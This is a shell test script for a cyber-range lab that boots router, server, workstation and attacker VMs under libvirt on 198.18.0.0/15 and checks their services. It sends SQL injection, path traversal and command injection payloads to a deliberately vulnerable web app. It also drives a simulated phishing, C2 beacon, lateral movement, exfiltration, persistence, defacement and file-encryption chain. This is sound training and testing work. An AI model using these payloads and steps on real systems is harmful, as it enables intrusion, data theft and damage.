#!/bin/sh
# boot-test.sh [IMAGES_DIR]: boot the role images and the test base disk
# under libvirt (qemu:///system, TCG) and check them for real:
#   1. each role alone: boots to the agent start (boot time from the console
#      log), the agent says hello on its channel;
#   2. the base-test disk through disk-boot.cpio.gz: the same;
#   3. router + server + workstation together on one L2-only network: config
#      messages over the agent channel, then the services listen, the web
#      application answers (and is vulnerable), mail, FTP, DNS, ssh, DHCP
#      and the proxy (allowed and refused) work;
#   4. an attacker joins them: its C2 (HTTP beacons, uploads, tools, DNS)
#      answers the network actions, and the host actions (phish.open,
#      lateral.move, persistence, impact.*) run through the agents' action
#      requests with their real effects checked.
# Uses only 198.18.0.0/15 addresses and names prefixed DEV_IMG_PREFIX
# (default dev-img; set another to run beside someone else's test), and
# removes every domain and network it made.  DEV_IMG_SECTIONS picks parts
# (default "single disk fw lan actions"); DEV_IMG_KEEP=1 keeps the guests.
# Needs root, libvirtd, python3.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
img=$(cd "${1:-build/images}" && pwd)
pfx=${DEV_IMG_PREFIX:-dev-img}
case $pfx in
*[!a-z0-9-]* | '') echo "boot-test: DEV_IMG_PREFIX must be a-z, 0-9 and -"; exit 2 ;;
esac
state=/var/lib/cyrange/${pfx}s
[ "$pfx" = dev-img ] && state=/var/lib/cyrange/dev-images
net=$pfx-net
# Bridge names are at most 15 characters.
bridge=$(printf 'v%s' "$pfx" | tr -d '-' | cut -c1-13)0
mem=${DEV_IMG_MEM_MIB:-160}
sections=${DEV_IMG_SECTIONS:-single disk fw lan actions}
V="virsh -q -c qemu:///system"
ctl="python3 $here/agentctl.py"
pass=0
fail=0

ok() {
    pass=$((pass + 1))
    echo "ok   $*"
}
bad() {
    fail=$((fail + 1))
    echo "FAIL $*"
}

# want SECTION: whether DEV_IMG_SECTIONS asks for it.
want() {
    case " $sections " in
    *" $1 "*) return 0 ;;
    esac
    return 1
}

cleanup() {
    for d in $($V list --all --name 2>/dev/null | grep "^$pfx-" || true); do
        $V destroy "$d" >/dev/null 2>&1 || true
        $V undefine "$d" >/dev/null 2>&1 || true
    done
    if $V net-info "$net" >/dev/null 2>&1; then
        $V net-destroy "$net" >/dev/null 2>&1 || true
        $V net-undefine "$net" >/dev/null 2>&1 || true
    fi
}
# DEV_IMG_KEEP=1 leaves the guests running for a look (virsh list; the
# agent sockets are in $state); run again without it to remove them.
if [ "${DEV_IMG_KEEP:-0}" = 1 ]; then
    trap 'echo "guests kept: virsh -c qemu:///system list | grep $pfx-"' EXIT
else
    trap cleanup EXIT
fi
trap 'exit 130' INT TERM

command -v python3 >/dev/null || {
    echo "boot-test: python3 is needed"
    exit 1
}
$V version >/dev/null || {
    echo "boot-test: libvirtd does not answer on qemu:///system (scripts/libvirtd-start.sh)"
    exit 1
}
cleanup

mkdir -p "$state"
chmod 755 /var/lib/cyrange "$state"
for f in vmlinuz router.cpio.gz server.cpio.gz workstation.cpio.gz attacker.cpio.gz \
    disk-boot.cpio.gz; do
    cp "$img/$f" "$state/$f"
done
# The disk is written by the guest: boot a copy.
cp "$img/base-test.qcow2" "$state/base-test.qcow2"
chmod 644 "$state"/*

cat >"$state/net.xml" <<EOF
<network>
  <name>$net</name>
  <bridge name='$bridge' stp='off' delay='0'/>
</network>
EOF
$V net-create "$state/net.xml" >/dev/null

# domain NAME MAC KIND [MAC...]: start a transient TCG domain; KIND is a
# role (direct kernel boot of ROLE.cpio.gz) or "disk" (disk-boot +
# base-test); more MACs add more NICs on the same network.
domain() {
    name=$1 mac=$2 kind=$3
    shift 3
    nics=""
    for m in "$mac" "$@"; do
        nics="$nics<interface type='network'><source network='$net'/><mac address='$m'/><model type='virtio'/></interface>
    "
    done
    rm -f "$state/$name.console.log" "$state/$name.sock"
    if [ "$kind" = disk ]; then
        initrd=$state/disk-boot.cpio.gz
        cmdline="console=ttyS0 root=/dev/vda cyrange.exercise=$pfx cyrange.team=1 cyrange.host=$name"
        disk="<disk type='file' device='disk'><driver name='qemu' type='qcow2'/>
      <source file='$state/base-test.qcow2'/><target dev='vda' bus='virtio'/></disk>"
    else
        initrd=$state/$kind.cpio.gz
        cmdline="console=ttyS0 cyrange.exercise=$pfx cyrange.team=1 cyrange.host=$name"
        disk=""
    fi
    cat >"$state/$name.xml" <<EOF
<domain type='qemu'>
  <name>$pfx-$name</name>
  <memory unit='MiB'>$mem</memory>
  <vcpu>1</vcpu>
  <os>
    <type arch='x86_64' machine='pc'>hvm</type>
    <kernel>$state/vmlinuz</kernel>
    <initrd>$initrd</initrd>
    <cmdline>$cmdline</cmdline>
  </os>
  <on_poweroff>destroy</on_poweroff>
  <on_crash>destroy</on_crash>
  <devices>
    $disk
    $nics
    <serial type='file'>
      <source path='$state/$name.console.log'/>
      <target port='0'/>
    </serial>
    <channel type='unix'>
      <source mode='bind' path='$state/$name.sock'/>
      <target type='virtio' name='org.cyrange.agent.0'/>
    </channel>
    <memballoon model='none'/>
  </devices>
</domain>
EOF
    $V create "$state/$name.xml" >/dev/null
}

# now_ms: wall clock in milliseconds.
now_ms() {
    python3 -c 'import time; print(int(time.time() * 1000))'
}

# wait_console NAME PATTERN SECONDS: wait until the console log has PATTERN.
wait_console() {
    i=0
    while [ "$i" -lt $(($3 * 10)) ]; do
        grep -q "$2" "$state/$1.console.log" 2>/dev/null && return 0
        sleep 0.1
        i=$((i + 1))
    done
    return 1
}

# boot_one NAME MAC KIND [MAC...]: boot, time it, check the hello, leave it
# running.
boot_one() {
    t0=$(now_ms)
    domain "$@"
    if wait_console "$1" "cyrange: starting agent" 60; then
        t1=$(now_ms)
        up=$(sed -n 's/.*cyrange: starting agent at \([0-9.]*\) s.*/\1/p' "$state/$1.console.log" | head -n 1)
        ok "$1: agent started $(((t1 - t0) / 100 / 10)).$(((t1 - t0) / 100 % 10)) s after create (guest uptime $up s)"
    else
        bad "$1: no 'cyrange: starting agent' on the console within 60 s"
        tail -n 20 "$state/$1.console.log" 2>/dev/null || true
        return 0
    fi
    if hello=$($ctl "$state/$1.sock" hello 30 2>&1); then
        t2=$(now_ms)
        ok "$1: hello $(((t2 - t0) / 100 / 10)).$(((t2 - t0) / 100 % 10)) s after create: $(echo "$hello" | cut -c1-160)"
    else
        bad "$1: no hello from the agent: $hello"
    fi
}

# x NAME CMD: run CMD in the guest through the agent.
x() {
    $ctl "$state/$1.sock" exec "$2" 60
}

# check NAME DESCRIPTION CMD PATTERN: CMD's output in NAME matches PATTERN.
check() {
    # One line, so patterns can span the output's lines.
    out=$(x "$1" "$3" 2>&1 | tr '\n' ' ' || true)
    if printf '%s\n' "$out" | grep -qE -- "$4"; then
        ok "$1: $2"
    else
        bad "$1: $2 (wanted /$4/, got: $(printf '%s' "$out" | cut -c1-300))"
    fi
}

# act NAME JSON: one action request; the reply (JSON on one line) is in
# $state/NAME.action.json and on stdout.
act() {
    $ctl "$state/$1.sock" request "$2" 300 >"$state/$1.action.json" 2>&1 || true
    cat "$state/$1.action.json"
}

# check_act NAME DESCRIPTION JSON PATTERN: the reply to an action request
# matches PATTERN.
check_act() {
    out=$(act "$1" "$3" | tr '\n' ' ')
    if printf '%s\n' "$out" | grep -qE -- "$4"; then
        ok "$1: $2"
    else
        bad "$1: $2 (wanted /$4/, got: $(printf '%s' "$out" | cut -c1-600))"
    fi
}

if want single; then
echo "== single boots (TCG, 1 vCPU, $mem MiB)"
n=1
for role in router server workstation attacker; do
    boot_one "$role" "52:54:00:de:01:0$n" "$role"
    check "$role" "busybox syslogd writes /var/log/messages" "logger -t boottest hello; sleep 0.3; tail -n 5 /var/log/messages" "boottest"
    check "$role" "tools: tcpdump, iptables, ip" \
        "tcpdump --version 2>&1 | head -n 1; iptables -L -n | head -n 1; /usr/bin/ip -V; ENV=/etc/cyrange/shrc sh -i -c 'ip -V' 2>&1" "tcpdump version.*Chain INPUT.*ip utility, iproute2.*ip utility, iproute2"
    check "$role" "crond runs, crontabs folder ready" \
        "pidof crond && ls -ld /var/spool/cron/crontabs" "^[0-9]+ drwx------ .*/var/spool/cron/crontabs"
    if [ "$role" = attacker ]; then
        # init must bring the agent back when it dies.
        # shellcheck disable=SC2016 # expanded in the guest
        x attacker '(sleep 1; kill $(pidof cyrange-agent)) >/dev/null 2>&1 &' >/dev/null 2>&1 || true
        sleep 4
        check attacker "agent respawned after being killed" \
            "grep -c 'starting agent' /var/log/messages; cat /var/log/messages" "^[2-9] .*agent exited"
    fi
    $V destroy "$pfx-$role" >/dev/null 2>&1 || true
    n=$((n + 1))
done
fi

if want disk; then
echo "== base-test disk through disk-boot.cpio.gz"
boot_one disk "52:54:00:de:01:09" disk
check disk "root is /dev/vda (ext4, rw)" "grep ' / ' /proc/mounts" "^/dev/vda / ext4 rw"
$V destroy "$pfx-disk" >/dev/null 2>&1 || true
fi

if want fw; then
echo "== router with three segments: the firewall's policy"
boot_one fw 52:54:00:de:03:01 router 52:54:00:de:03:02 52:54:00:de:03:03
if $ctl "$state/fw.sock" request '{"t":"config","hostname":"fw",
 "ifaces":[{"mac":"52:54:00:de:03:01","addr":"198.18.0.1","prefix":24},{"mac":"52:54:00:de:03:02","addr":"198.18.1.1","prefix":24},
           {"mac":"52:54:00:de:03:03","addr":"198.18.2.1","prefix":24}],
 "env":{"CYR_SERVICES":"proxy","CYR_IFACES":"eth0 eth1 eth2","CYR_IF_eth0_SEGMENT":"internet","CYR_IF_eth1_SEGMENT":"office",
        "CYR_IF_eth2_SEGMENT":"dmz","CYR_PROXY_ALLOW":"example.test"}}' 60 >"$state/fw.config.json"; then
    ok "fw: config applied"
else
    bad "fw: config: $(cat "$state/fw.config.json")"
fi
check fw "segments classified" "sleep 2; cat /var/log/start-services.log" "external=\\[ eth0 \\] dmz=\\[ eth2 \\] lan=\\[ ?eth1 ?\\]"
check fw "office<->dmz forwarded both ways" "iptables -S FORWARD" "-A FORWARD -i eth1 -o eth2 .*ACCEPT.*-A FORWARD -i eth2 -o eth1 .*ACCEPT"
check fw "dmz->internet allowed, internet->dmz only published ports" "iptables -S FORWARD" "-A FORWARD -i eth2 -o eth0 .*ACCEPT.*-A FORWARD -i eth0 -o eth2 -p tcp -m tcp --dport 80 .*ACCEPT"
check fw "office->internet only logged then dropped (proxy only)" "iptables -S FORWARD | grep -c 'i eth1 -o eth0.*ACCEPT'; iptables -S FORWARD" "^0 .*-A FORWARD -i eth1 -o eth0 .*LOG"
check fw "input from the internet dropped, proxy reachable from inside" "iptables -S INPUT" "-A INPUT -i eth1 -j ACCEPT.*-A INPUT -j DROP"
check fw "conntrack and LOG modules loaded on demand" "lsmod" "xt_conntrack.*|xt_LOG"
$V destroy "$pfx-fw" >/dev/null 2>&1 || true
fi

if want lan || want actions; then
echo "== router + server + workstation on $net"
boot_one router 52:54:00:de:02:01 router
boot_one server 52:54:00:de:02:02 server
boot_one workstation 52:54:00:de:02:03 workstation

acct='"accounts":[{"name":"root","password":"dev-img-root"},{"name":"alice","password":"Alice-pw-1","groups":["users"]}]'
if $ctl "$state/router.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"router","role":"router","hostname":"router",
 "ifaces":[{"mac":"52:54:00:de:02:01","addr":"198.18.1.1","prefix":24}],"dns":["198.18.1.10"],'"$acct"',
 "env":{"CYR_SERVICES":"ssh dhcp proxy","CYR_DOMAIN":"example.test",
        "CYR_DHCP_SERVE":"eth0,198.18.1.100,198.18.1.150,198.18.1.1,198.18.1.10",
        "CYR_PROXY_ALLOW":"198.18.1.10 www.example.test","CYR_IF_eth0_SEGMENT":"office"}}' 60 >"$state/router.config.json"; then
    ok "router: config applied"
else
    bad "router: config: $(cat "$state/router.config.json")"
fi
if $ctl "$state/server.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"www","role":"server","hostname":"www",
 "ifaces":[{"mac":"52:54:00:de:02:02","addr":"198.18.1.10","prefix":24}],"gateway":"198.18.1.1","dns":["198.18.1.10"],'"$acct"',
 "env":{"CYR_SERVICES":"http smtp dns ftp ssh","CYR_DOMAIN":"example.test",
        "CYR_DNS_RECORDS":"router=198.18.1.1 mail=198.18.1.10 proxy=198.18.1.1"}}' 60 >"$state/server.config.json"; then
    ok "server: config applied"
else
    bad "server: config: $(cat "$state/server.config.json")"
fi
if $ctl "$state/workstation.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"pc1","role":"workstation","hostname":"pc1",
 "ifaces":[{"mac":"52:54:00:de:02:03","dhcp":true}],'"$acct"',
 "env":{"CYR_SERVICES":"ssh","CYR_PROXY":"198.18.1.1:3128","CYR_DOMAIN":"example.test",
        "CYR_HOSTS":"router=198.18.1.1 www=198.18.1.10 mail=198.18.1.10 attacker=198.18.1.66",
        "CYR_MAIL_PASS_alice":"Alice-pw-1"}}' 60 >"$state/workstation.config.json"; then
    ok "workstation: config applied"
else
    bad "workstation: config: $(cat "$state/workstation.config.json")"
fi

# Services come up in the background after the config reply.
sleep 3
if want lan; then
check router "ssh listens on 22" "sleep 2; netstat -ltn" ":22 "
check router "proxy listens on 3128" "netstat -ltn" ":3128 "
check router "dnsmasq serves DHCP on 67/udp" "netstat -lun" ":67 "
check router "ip forwarding on" "cat /proc/sys/net/ipv4/ip_forward" "^1"
check router "firewall: FORWARD policy DROP, rules loaded" "iptables -S FORWARD" "-P FORWARD DROP"
for p in 80 25 21 22 53; do
    check server "listens on $p/tcp" "netstat -ltn" ":$p "
done
check router "web app answers from the router" "wget -qO- http://198.18.1.10/" "Welcome to the intranet"
check router "SQL injection logs in as admin" \
    "wget -qO- --post-data \"user=admin'--&pass=x\" http://198.18.1.10/cgi-bin/login.cgi" "Welcome, Site Administrator"
check router "SQL injection UNION dumps passwords" \
    "wget -qO- --post-data \"user=x' UNION SELECT username,password,role FROM users--&pass=x\" http://198.18.1.10/cgi-bin/login.cgi" "Adm1n#2024"
check router "path traversal reads /etc/passwd" \
    "wget -qO- 'http://198.18.1.10/cgi-bin/view.cgi?file=../../../etc/passwd'" "root:x:0:0"
check router "command injection runs id as www-data" \
    "wget -qO- 'http://198.18.1.10/cgi-bin/ping.cgi?host=127.0.0.1%3Bid'" "uid=33\\(www-data\\)"
check server "access log has common-log lines" "cat /var/log/httpd.log" "^198\\.18\\.1\\.1 - - \\[.*\\] \"GET / HTTP/1\\.1\" 200 .*198\\.18\\.1\\.1 - - \\[.*\\] \"POST /cgi-bin/login.cgi HTTP/1\\.[01]\" 200"
check router "SMTP delivers to /var/mail/alice" \
    "printf 'Subject: test\\n\\nhello alice\\n' | sendmail-nc 198.18.1.10 boss@example.test alice@example.test 'Invoice' 2>&1; echo sent" "sent"
check server "mailbox /var/mail/alice" "sleep 1; cat /var/mail/alice; tail -n 3 /var/log/mail.log" "hello alice"
check router "SMTP AUTH PLAIN with the real password" \
    "printf 'EHLO r\\r\\nAUTH PLAIN %s\\r\\nAUTH PLAIN %s\\r\\nQUIT\\r\\n' \$(printf 'x\\0alice\\0wrong' | base64) \$(printf 'x\\0alice\\0Alice-pw-1' | base64) | nc -w 5 198.18.1.10 25" "535 .*235 2.7.0"
check server "mail.log records the failed and good AUTH" "cat /var/log/mail.log" "auth failed mech=PLAIN user=alice.*auth ok mech=PLAIN user=alice"
check router "FTP login and download from the share" \
    "cd /tmp && ftpget -u alice -p Alice-pw-1 198.18.1.10 pl.csv public/phone-list.csv && cat pl.csv" "Mika Tanaka"
check server "ftp.log records the transfer" "cat /var/log/ftp.log" "retr user=alice .*path=public/phone-list.csv"
check server "backups in /srv/backup" "ls /srv/backup/share/finance" "supplier-payments"
check router "DNS: www.example.test from the server's dnsmasq" "nslookup www.example.test 198.18.1.10" "198\\.18\\.1\\.10"
check router "DNS: MX for example.test" "nslookup -type=mx example.test 198.18.1.10" "mail\\.example\\.test"
check router "ssh with a password to the server" \
    "DROPBEAR_PASSWORD=Alice-pw-1 dbclient -y -y alice@198.18.1.10 'id; hostname' 2>&1" "uid=1000\\(alice\\).*"
check workstation "DHCP lease from the router" "sleep 2; ip -4 addr show eth0" "inet 198\\.18\\.1\\.1[0-5][0-9]/24"
check workstation "default route from the lease" "ip route" "default via 198\\.18\\.1\\.1"
check workstation "browse through the proxy: allowed site" "browse http://198.18.1.10/" "Welcome to the intranet"
check workstation "browse through the proxy: refused site" "browse http://198.18.1.11/ 2>&1; echo exit=\$?" "exit=[1-9]"
check router "proxy.log records the refusal" "cat /var/log/proxy.log" "refused on filtered domain.*198\\.18\\.1\\.11"
check router "dnsmasq.log records the lease" "cat /var/log/dnsmasq.log" "DHCPACK.*198\\.18\\.1\\.1[0-5][0-9]"
check router "tcpdump captures on the LAN" \
    "(timeout 8 tcpdump -n -c 2 -i eth0 icmp >/tmp/td.txt 2>&1 &); sleep 2; ping -c 2 198.18.1.10 >/dev/null; sleep 1; cat /tmp/td.txt" \
    "198\\.18\\.1\\.1 > 198\\.18\\.1\\.10: ICMP echo request"
check router "a getty on the console (ttyS0)" "ps" "getty -L 115200 ttyS0"
check router "one pid file per service, DHCP its own dnsmasq" \
    "ls /run/cyrange/services; cat /proc/\$(cat /run/cyrange/services/dhcp.pid)/cmdline | tr '\\0' ' '" \
    "dhcp.pid proxy.pid ssh.pid dnsmasq .*--port=0"
check server "pid files of http smtp dns ftp ssh" "ls /run/cyrange/services" \
    "dns.pid ftp.pid http.pid smtp.pid ssh.pid"
check workstation "mail client profile for alice (0600, hers)" \
    "ls -l /home/alice/.mailclient; cat /home/alice/.mailclient" \
    "-rw------- .* alice .*server='198.18.1.10'.*password='Alice-pw-1'"
check workstation "readmail reads alice's mail over ssh with the saved password" \
    "readmail alice 2>&1" "hello alice"
fi

if want actions; then
echo "== attacker's C2 and the host actions"
boot_one attacker 52:54:00:de:02:04 attacker
if $ctl "$state/attacker.sock" request '{"t":"config","exercise":"'"$pfx"'","team":1,"host":"attacker","role":"attacker","hostname":"attacker",
 "ifaces":[{"mac":"52:54:00:de:02:04","addr":"198.18.1.66","prefix":24}],'"$acct"',
 "env":{"CYR_SERVICES":"ssh http dns","CYR_C2_DOMAIN":"update.example.test"}}' 60 >"$state/attacker.config.json"; then
    ok "attacker: config applied"
else
    bad "attacker: config: $(cat "$state/attacker.config.json")"
fi
sleep 3
check attacker "C2 listens on 80/tcp and 53/udp, pid files" \
    "netstat -ltnu; ls /run/cyrange/services" ":80 .*:53 .*dns.pid http.pid ssh.pid"
check router "C2 site and tools over HTTP" \
    "wget -qO- http://198.18.1.66/; wget -qO- http://198.18.1.66/tools/scan.sh" "Software Update Service.*nc -z"
check router "C2 refuses loot/ and traversal" \
    "wget -qO- http://198.18.1.66/loot/ 2>&1; wget -qO- 'http://198.18.1.66/../etc/passwd' 2>&1" "404.*404"
check router "C2 DNS answers the C2 domain, refuses others" \
    "nslookup 7.pc1.update.example.test 198.18.1.66 2>&1; nslookup www.google.com 198.18.1.66 2>&1" \
    "Address: 198\\.18\\.1\\.66.*(REFUSED|can't resolve)"
check attacker "c2-dns.log has the query with its client" "cat /var/log/c2-dns.log" \
    "query\\[A\\] 7\\.pc1\\.update\\.example\\.test from 198\\.18\\.1\\.1"

# The story of targeted-mail, on these hosts: phishing mail, the user opens
# it, the implant beacons, moves to the server, persists, impact.
phish='{"t":"action","step":"phish","action":"phish.deliver","target":{"host":"www","addr":"198.18.1.10"},"seed":7,"deadline_ms":90000,
 "params":{"mailbox":"alice@example.test","from":"hr@exarnple.test","subject":"Revised bonus table","attachment":"bonus.xls.exe"}}'
check_act router "phish.deliver (network action) puts the mail on the server" "$phish" '"outcome": "succeeded"'
check_act workstation "phish.open: alice's mail client fetches it over ssh, the attachment is saved, the implant installed" \
    '{"t":"action","step":"open","action":"phish.open","params":{"user":"alice","subject":"Revised bonus table"},"seed":7,"deadline_ms":120000}' \
    '"outcome": "succeeded".*"dst": "198\.18\.1\.10", "dport": 22'
check workstation "phish.open left the attachment and the implant, owned by alice" \
    "ls -l /home/alice/Downloads/ /tmp/.cache/updater; head -c 160 /home/alice/Downloads/bonus.xls.exe | tr -c 'A-Za-z .-' ' '; ls /home/alice/Mail" \
    "-rwxr-xr-x .*alice .*/tmp/.cache/updater.*alice .*bonus\\.xls\\.exe.*MZ.*CYRANGE-EXERCISE.*inbox"
check server "the mail client's ssh login is in sshd.log" "cat /var/log/sshd.log" "Password auth succeeded for 'alice'"
c2='"c2":{"addr":"198.18.1.66","port":80,"domain":"update.example.test"}'
check_act workstation "c2.beacon (network action) starts the installed implant" \
    '{"t":"action","step":"beacon","action":"c2.beacon","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
     "params":{"channel":"http","interval":"5s","domain":"update.example.test","count":3}}' '"outcome": "succeeded"'
check attacker "the C2 logged the HTTP beacon" "sleep 1; cat /var/log/c2-beacons.log" "beacon id=pc1 seq=1 from=198\\.18\\.1\\.1[0-9][0-9]:[0-9]+ host=update\\.example\\.test"
check_act workstation "c2.beacon over DNS reaches the C2's dnsmasq" \
    '{"t":"action","step":"dnsbeacon","action":"c2.beacon","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
     "params":{"channel":"dns","port":53,"interval":"5s","domain":"update.example.test","count":1}}' '"outcome": "succeeded"'
check attacker "c2-dns.log has the TXT beacon" "cat /var/log/c2-dns.log" "query\\[TXT\\] 1\\.pc1\\.update\\.example\\.test from 198\\.18\\.1\\.1[0-9][0-9]"
check_act workstation "tool.transfer fetches tools/scan.sh from the C2" \
    '{"t":"action","step":"tool","action":"tool.transfer","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":60000,
     "params":{"path":"/tmp/.cache/scan.sh"}}' '"outcome": "succeeded"'
check_act workstation "lateral.move: ssh to the server with alice's password, implant copied, checked, started" \
    '{"t":"action","step":"lateral","action":"lateral.move","target":{"host":"www","addr":"198.18.1.10"},'"$c2"',"seed":7,"deadline_ms":180000,
     "params":{"method":"ssh","user":"alice","password":"Alice-pw-1"}}' \
    '"outcome": "succeeded".*"dst": "198\.18\.1\.10", "dport": 22, "packets": [0-9]+, "bytes": [0-9]{6,}.*"started": true'
check server "the implant runs on the server as alice and has beaconed" \
    "sleep 3; ps | grep '[u]pdater'; ls -l /tmp/.cache/updater; cat /tmp/.cache/run/cyrange/implant-lateral.status" \
    "alice .*updater.*-rwxr-xr-x .*alice.*\"answered\": ?true"
check attacker "the C2 logged the server's beacon" "cat /var/log/c2-beacons.log" "beacon id=www seq=1 from=198\\.18\\.1\\.10:"
check_act server "exfil (network action) POSTs to the C2" \
    '{"t":"action","step":"exfil","action":"exfil","target":{"host":"attacker","addr":"198.18.1.66"},'"$c2"',"seed":7,"deadline_ms":90000,
     "params":{"channel":"http","bytes":65536,"source":"/srv/share/finance"}}' '"outcome": "succeeded"'
check attacker "the upload is in loot/ with its size logged" "ls -l /srv/c2/loot; cat /var/log/c2-beacons.log" \
    " 65536 .*\\.bin.*upload from=198\\.18\\.1\\.10:[0-9]+ bytes=65536 of=65536"
check_act server "persistence cron: root's crontab runs the implant" \
    '{"t":"action","step":"persist","action":"persistence",'"$c2"',"seed":7,"deadline_ms":60000,
     "params":{"kind":"cron","name":"sysupdate","schedule":"* * * * *"}}' '"outcome": "succeeded".*"crond_running": true'
check_act server "persistence account: a new account with a password" \
    '{"t":"action","step":"acct","action":"persistence","seed":7,"deadline_ms":60000,
     "params":{"kind":"account","name":"svc-upd","password":"Upd4te-2026"}}' '"outcome": "succeeded"'
check router "the new account logs in over ssh" \
    "DROPBEAR_PASSWORD=Upd4te-2026 dbclient -y -y svc-upd@198.18.1.10 id 2>&1" "uid=100[0-9]\\(svc-upd\\)"
check_act server "impact.deface replaces the intranet page" \
    '{"t":"action","step":"deface","action":"impact.deface","seed":7,"deadline_ms":60000,
     "params":{"path":"/srv/www/index.html","content":"<h1>Hacked by cyrange</h1>"}}' '"outcome": "succeeded"'
check router "the defaced page is served, the original is in the backup" \
    "wget -qO- http://198.18.1.10/; echo; DROPBEAR_PASSWORD=dev-img-root dbclient -y -y root@198.18.1.10 'cat /srv/backup/www/index.html' 2>/dev/null | head -n 20" \
    "Hacked by cyrange.*Welcome to the intranet"
check_act server "impact.encrypt: three files of the share" \
    '{"t":"action","step":"ransom","action":"impact.encrypt","seed":7,"deadline_ms":120000,
     "params":{"path":"/srv/share","max_files":3,"note":"Your files are encrypted."}}' '"outcome": "succeeded".*"files": 3'
check server "*.locked files, a note, the backup intact" \
    "find /srv/share -name '*.locked' | wc -l; cat /srv/share/README-RESTORE-FILES.txt; find /srv/backup/share -name '*.locked' | wc -l; head -n 2 /srv/backup/share/finance/budget-2025-draft.txt" \
    "^3 Your files are encrypted\\. ID: [0-9a-f]+ 0 .*[A-Za-z]"
check_act server "impact.service_stop http" \
    '{"t":"action","step":"stophttp","action":"impact.service_stop","seed":7,"deadline_ms":60000,"params":{"service":"http"}}' \
    '"outcome": "succeeded".*"ports": \["tcp/80"\]'
check router "the web server is down" "wget -qO- http://198.18.1.10/ 2>&1; echo exit=\$?" "exit=[1-9]"
check server "start-services brings it back (the stale pid file is harmless)" \
    "/etc/cyrange/start-services >/dev/null 2>&1; sleep 2; netstat -ltn" ":80 "
check_act router "impact.service_stop dhcp leaves the proxy up" \
    '{"t":"action","step":"stopdhcp","action":"impact.service_stop","seed":7,"deadline_ms":60000,"params":{"service":"dhcp"}}' \
    '"outcome": "succeeded".*"udp/67"'
check router "after the dhcp stop: no 67/udp, 3128 still listens" "netstat -lnu | grep -c ':67 '; netstat -ltn" "^0 .*:3128 "
# Last, as it waits for a minute: crond ran the persistence entry.
check server "crond ran the implant from root's crontab" \
    "i=0; while [ \$i -lt 75 ] && ! grep -q 'cmd /tmp/.cache/updater' /var/log/messages; do sleep 1; i=\$((i+1)); done; grep crond /var/log/messages | tail -n 3" \
    "crond.*USER root pid [0-9]+ cmd /tmp/\\.cache/updater --implant --step 'persist'"
# A new implant process starts at seq 1 again: a second "www seq=1".
check attacker "the cron run beaconed" "sleep 5; grep -c 'beacon id=www seq=1 ' /var/log/c2-beacons.log" "^[2-9]"
fi
fi

echo "console logs and XML: $state"
echo "$pass passed, $fail failed"
[ "$fail" -eq 0 ]
